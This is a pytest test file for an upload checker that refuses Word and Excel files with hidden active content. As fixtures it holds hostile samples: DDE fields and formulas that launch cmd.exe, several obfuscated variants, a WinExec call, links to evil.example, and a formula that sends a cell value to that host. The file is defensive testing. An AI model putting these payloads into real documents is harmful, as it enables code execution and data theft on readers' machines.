"""Word and Excel files that fetch or run something, in ways that are easily overlooked."""

import re

import pytest
from django.core.files.base import ContentFile

from center.documents import office_contents
from center.documents.checking import check
from center.documents.office_contents import PartScanner
from center.documents.refusals import REASONS, DocumentRefused
from tests.center.documents.office_making import (
    DOCX,
    MICROSOFT,
    OFFICE,
    SVG,
    VBA_PROJECT,
    VML,
    WORD,
    code,
    content_types,
    document,
    field,
    formula,
    make_docx,
    make_xlsx,
    mark,
    package,
    part,
    picture,
    relationships,
    sheet,
    sheet_part,
    shown,
)

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
MACROS = OLE + bytes(2000) + "_VBA_PROJECT".encode("utf-16-le") + bytes(100)
ADDRESS = "https://evil.example/pixel.png"
RUN = "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe /k calc"


def deleted(text: str) -> str:
    return f"<w:del><w:r><w:delInstrText>{text}</w:delInstrText></w:r></w:del>"


def package_links(*more: tuple) -> dict:
    """The package's relationships: the document's, and more."""
    return {"_rels/.rels": relationships(("officeDocument", "word/document.xml"), *more)}


# --- Refused: fields of Word, written in different ways ------------------------------------------------------------

FIELDS = {
    "DDEAUTO in one run": ("active", field(code(f" {RUN} "))),
    "DDEAUTO over runs": ("active", field(code(" D"), code("DE"), code("AU"), code("TO c:\\x"))),
    "DDEAUTO a letter a run": ("active", field(*map(code, "DDEAUTO"), code(" c:\\x"))),
    "DDE over paragraphs": ("active", mark("begin") + code("DDE") + "</w:p><w:p>" + code("c:\\x") + mark("end")),
    "DDE in small letters": ("active", field(code(" ddeauto c:\\x"))),
    "DDE in full-width letters": ("active", field(code("ＤＤＥ c:\\x"))),
    "DDE with an invisible sign": ("active", field(code("D\u200bDE c:\\x"))),
    "DDE by references to signs": ("active", field(code("&#68;&#x44;E c:\\x"))),
    "DDE in a CDATA section": ("active", field(code("<![CDATA[DDE]]> c:\\x"))),
    "DDE without a result": ("active", mark("begin") + code(RUN) + mark("end")),
    "DDE that never ends": ("active", mark("begin") + code(RUN)),
    "DDE outside a field": ("active", code("DDE") + code("AUTO c:\\x")),
    "DDE outside a field, before one": ("active", code(RUN) + field(code("PAGE"))),
    "DDE as ordinary text of the instruction": ("active", field(shown("DDE"), code(" c:\\x"))),
    "DDE once a change is taken back": ("active", field(deleted("DDE"), code(" c:\\x"))),
    "DDE once a change is taken over": ("active", field(code("D"), deleted("x"), code("DE c:\\x"))),
    "DDE in a simple field": ("active", f'<w:fldSimple w:instr=" {RUN} "/>'),
    "DDE in a simple field, another prefix": ("active", f'<a:fldSimple xmlns:a="{WORD}" a:instr="DDE x y"/>'),
    "DDE within a field": ("active", field(code("IF 1 = 1 "), field(code(RUN)))),
    "DDE in a field's result": (
        "active",
        mark("begin") + code("PAGE") + mark("separate") + field(code(RUN)) + mark("end"),
    ),
    "DDE that a field within gives": ("active", field(field(code("QUOTE 68 68 69"), result="DDE"), code(" c:\\x"))),
    "DDE that a field within gives in part": ("active", field(code("D"), field(code("QUOTE 68 69")), code(" c:\\x"))),
    "picture from an address": ("linked", field(code(f' INCLUDEPICTURE "{ADDRESS}" \\d '))),
    "picture from an address over runs": ("linked", field(code(" INCLUDE"), code(f'PICTURE "{ADDRESS}"'))),
    "picture from an address, no space": ("linked", field(code(f'INCLUDEPICTURE"{ADDRESS}"'))),
    "picture from another computer": ("linked", field(code("INCLUDEPICTURE \\\\\\\\evil\\\\share\\\\a.png"))),
    "text from a file": ("linked", field(code(" INCLUDETEXT c:\\\\passwords.txt "))),
    "link to a sheet": ("linked", field(code(" LINK Excel.Sheet.12 http://evil.example/a.xlsx "))),
    "table from a database": ("linked", field(code(' DATABASE \\c "DSN=x" '))),
    "altChunk": ("unmerged", '<w:altChunk xmlns:r="x" r:id="rId1"/>'),
    "video of the web": ("active", '<wp15:webVideoPr xmlns:wp15="x" embeddedHtml="&lt;iframe>"/>'),
    "drawing with an address": ("linked", f'<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="{ADDRESS}"/>'),
}

# --- Refused: parts and relationships of a Word file ---------------------------------------------------------------

PARTS = {
    "DDE in a header": (
        "active",
        part(f"{OFFICE}wordprocessingml.header+xml", "word/header1.xml", "header", document(field(code(RUN)))),
    ),
    "DDE in UTF-16": ("active", {"body": document(field(code(RUN))).encode("utf-16")}),
    "altChunk with HTML": ("unmerged", part("text/html", "word/a.html", "aFChunk", "<script>alert(1)</script>")),
    "altChunk with HTML as XML": ("unmerged", part("application/xml", "word/a.xml", "aFChunk", "<html/>")),
    "altChunk with RTF": ("unmerged", part("application/rtf", "word/a.rtf", "aFChunk", "{\\rtf1}")),
    "altChunk with a document": ("embedded", part(DOCX, "word/a.xml", "aFChunk", document())),
    "document within": ("embedded", part(f"{OFFICE}wordprocessingml.document", "word/a.docx", "package")),
    "template from an address": (
        "linked",
        {"more": {"word/_rels/settings.xml.rels": relationships(("attachedTemplate", ADDRESS, "External"))}},
    ),
    "frame from an address": ("linked", {"links": [("frame", ADDRESS, "External")]}),
    "subdocument from an address": ("linked", {"links": [("subDocument", ADDRESS, "External")]}),
    "object from an address": ("linked", {"links": [("oleObject", f"{ADDRESS}!x", "External")]}),
    "an address that says it lies inside": ("linked", {"links": [("image", ADDRESS)]}),
    "another computer that says it lies inside": ("linked", {"links": [("image", "//evil.example/a.png")]}),
    "unknown relationship outwards": ("linked", {"links": [("http://example.com/x", ADDRESS, "External")]}),
    "no hyperlink of Office's": ("linked", {"links": [("http://example.com/hyperlink", ADDRESS, "External")]}),
    "letters to many": (
        "linked",
        part(
            f"{OFFICE}wordprocessingml.settings+xml",
            "word/settings.xml",
            "settings",
            f'<w:settings xmlns:w="{WORD}"><w:mailMerge><w:connectString w:val="x"/></w:mailMerge></w:settings>',
        ),
    ),
    "SVG with a script": ("active", picture("image/svg+xml", SVG.format("<script>alert(1)</script>"))),
    "SVG with an address": ("linked", picture("image/svg+xml", SVG.format(f'<image xlink:href="{ADDRESS}"/>'))),
    "SVG with entities": (
        "active",
        picture("image/svg+xml", '<!DOCTYPE svg [<!ENTITY a "a">]>' + SVG.format("&a;")),
    ),
    "reference to a foreign DTD": ("active", {"body": f'<!DOCTYPE x SYSTEM "{ADDRESS}">' + document()}),
    "add-in in a side pane": (
        "active",
        part(
            "application/vnd.ms-office.webextensiontaskpanes+xml",
            "word/panes.xml",
            f"{MICROSOFT}2011/relationships/webextensiontaskpanes",
        ),
    ),
    "macro project under another name": (
        "macro",
        part("application/vnd.ms-office.vbaProject", "word/settings2.bin", VBA_PROJECT, MACROS),
    ),
    "macro project by its extension": (
        "macro",
        {
            "defaults": {"dat": "application/vnd.ms-office.vbaProject"},
            "links": [(VBA_PROJECT, "a.dat")],
            "more": {"word/a.dat": MACROS},
        },
    ),
    "macro project to which nothing leads": (
        "macro",
        part("application/vnd.ms-office.vbaProject", "word/a.bin", "", OLE + bytes(600)),
    ),
    "macro project as a picture": ("macro", picture("image/png", MACROS)),
    "macro project by its relationship": ("macro", part("image/png", "word/media/image1.png", VBA_PROJECT, "x")),
    "macro project thrown away": ("macro", {"more": {"[trash]/0000.dat": MACROS}}),
    "macro document under a plain name": ("macro", {"kind": "application/vnd.ms-word.document.MACROENABLED.main+xml"}),
    "custom toolbar buttons": (
        "macro",
        {"more": package_links((f"{MICROSOFT}2006/relationships/ui/extensibility", "word/ui.xml"))},
    ),
    "OLE as a font": ("embedded", part("application/x-font-ttf", "word/fonts/a.ttf", "font", OLE + bytes(600))),
    "zip as a picture": ("embedded", picture("image/jpeg", package({"a.exe": b"MZ"}))),
    "program as a picture": ("embedded", picture("image/jpeg", b"MZ" + bytes(100))),
    "part of no type": ("unusual", {"more": {"word/extra.dat": "x"}}),
    "two documents": ("embedded", {"types": {"/word/other.xml": DOCX}, "more": {"word/other.xml": document()}}),
    "relationship to another document": (
        "damaged",
        {"more": {"_rels/.rels": relationships(("officeDocument", "word/other.xml"))}},
    ),
    "names that differ in letter case": ("damaged", {"more": {"WORD/Document.xml": document()}}),
    "names that differ in escaping": ("damaged", {"more": {"word/d%6Fcument.xml": document()}}),
    "no XML": ("damaged", {"body": "<w:document>"}),
    "PowerPoint": (
        "unknown",
        {"main": "ppt/presentation.xml", "kind": f"{OFFICE}presentationml.presentation.main+xml"},
    ),
}

# --- Refused: Excel ------------------------------------------------------------------------------------------------

FORMULAS = {
    "DDE": ("active", "cmd|'/c calc'!A0"),
    "DDE in brackets": ("active", "1+(MSEXCEL|'\\..\\..\\cmd.exe'!A0)"),
    "DDE with a quoted program": ("active", "'cmd'|'/c calc'!A0"),
    "DDE of LibreOffice": ("active", 'DDE("soffice","file.ods","a1")'),
    "program": ("active", 'IF(1,call("Kernel32","WinExec","JFJ"),0)'),
    "page of the web": ("linked", f'_xlfn.WEBSERVICE("{ADDRESS}?"&A1)'),
    "picture of the web": ("linked", f'_xlfn.IMAGE("{ADDRESS}")'),
    "cell of another file by its path": ("linked", "'\\\\evil\\share\\[a.xlsx]Sheet1'!A1"),
}

SHEET_PARTS = {
    "DDE by references to signs": (
        "active",
        {"change": {"xl/worksheets/sheet1.xml": sheet("<c><f>cmd&#124;'x'!A0</f></c>")}},
    ),
    "DDE in a table": (
        "active",
        sheet_part(
            f"{OFFICE}spreadsheetml.table+xml",
            "xl/tables/table1.xml",
            "table",
            "<x><calculatedColumnFormula>a|b!c</calculatedColumnFormula></x>",
        ),
    ),
    "DDE link": (
        "linked",
        sheet_part(
            f"{OFFICE}spreadsheetml.externalLink+xml",
            "xl/externalLinks/externalLink1.xml",
            "externalLink",
            '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
        ),
    ),
    "DDE link under another type": ("active", sheet_part("application/xml", "xl/a.xml", "", "<x><ddeLink/></x>")),
    "connections": ("linked", sheet_part(f"{OFFICE}spreadsheetml.connections+xml", "xl/c.xml", "connections")),
    "connections under another type": ("linked", sheet_part("application/xml", "xl/c.xml", "connections")),
    "query": ("linked", sheet_part(f"{OFFICE}spreadsheetml.queryTable+xml", "xl/q.xml", "queryTable")),
    "Power Query": (
        "linked",
        sheet_part("application/xml", "customXml/item1.xml", "customXml", "<DataMashup>UEs=</DataMashup>"),
    ),
    "values that wait for a program": (
        "linked",
        sheet_part(f"{OFFICE}spreadsheetml.volatileDependencies+xml", "xl/v.xml", "volatileDependencies"),
    ),
    "old macro sheet under another name": (
        "macro",
        sheet_part(
            "application/vnd.ms-excel.macrosheet+xml",
            "xl/worksheets/sheet9.xml",
            f"{MICROSOFT}2006/relationships/xlMacrosheet",
        ),
    ),
    "macro project under another name": (
        "macro",
        sheet_part("application/vnd.ms-office.vbaProject", "xl/theme/theme9.bin", VBA_PROJECT, MACROS),
    ),
    "dialog of Excel 5": ("macro", sheet_part(f"{OFFICE}spreadsheetml.dialogsheet+xml", "xl/d.xml", "dialogsheet")),
    "ActiveX under another name": (
        "macro",
        sheet_part("application/vnd.ms-office.activeX+xml", "xl/ax/a.xml", "control"),
    ),
    "object under another name": ("embedded", sheet_part(f"{OFFICE}oleObject", "xl/media/a.bin", "oleObject", OLE)),
    "drawing with an address": (
        "linked",
        sheet_part(
            VML, "xl/drawings/v.vml", "vmlDrawing", '<xml><v:imagedata src="&#104;ttps://evil.example/a.png"><br></xml>'
        ),
    ),
    "drawing with entities": (
        "active",
        sheet_part(VML, "xl/drawings/v.vml", "vmlDrawing", '<!DOCTYPE xml [<!ENTITY a "a">]><xml/>'),
    ),
    "template": (
        "template",
        {
            "change": {
                "[Content_Types].xml": content_types(
                    {"/xl/workbook.xml": f"{OFFICE}spreadsheetml.template.main+xml"},
                )
            }
        },
    ),
}

REFUSED = {
    **{case: (reason, {"body": document(inside)}, make_docx) for case, (reason, inside) in FIELDS.items()},
    **{case: (reason, arguments, make_docx) for case, (reason, arguments) in PARTS.items()},
    **{
        f"formula: {case}": (reason, {"change": {"xl/worksheets/sheet1.xml": formula(text)}}, make_xlsx)
        for case, (reason, text) in FORMULAS.items()
    },
    **{f"Excel: {case}": (reason, arguments, make_xlsx) for case, (reason, arguments) in SHEET_PARTS.items()},
}


@pytest.mark.parametrize("case", REFUSED)
def test_it_is_refused_for_its_own_reason(case):
    reason, arguments, make = REFUSED[case]
    with pytest.raises(DocumentRefused) as refused:
        check(file=ContentFile(make(**arguments), name="แบบคำขอ"))
    assert refused.value.code == reason
    assert re.search("กรุณา|รับเฉพาะ", refused.value.messages[0])  # the message says what to do


def test_a_part_is_read_the_same_wherever_it_is_cut():
    body = document(field(code(" D"), code("DE c:\\x"))).encode()
    for size in (1, 2, 3, 7, 64):
        with pytest.raises(DocumentRefused, match="ทำงานเองเมื่อเปิด"):
            scan_in_chunks(body, size)


def scan_in_chunks(body: bytes, size: int) -> None:
    scanner = PartScanner()
    for start in range(0, len(body), size):
        scanner.feed(body[start : start + size])
    scanner.feed(b"", final=True)


def test_every_field_and_element_that_is_refused_has_its_reason():
    fields, elements = office_contents.REFUSED_FIELDS, office_contents.REFUSED_ELEMENTS
    assert {*fields.values(), *elements.values()} <= set(REASONS)
    for name, reason in fields.items():
        with pytest.raises(DocumentRefused) as refused:
            check(file=ContentFile(make_docx(body=document(field(code(f" {name} x")))), name="a"))
        assert refused.value.code == reason
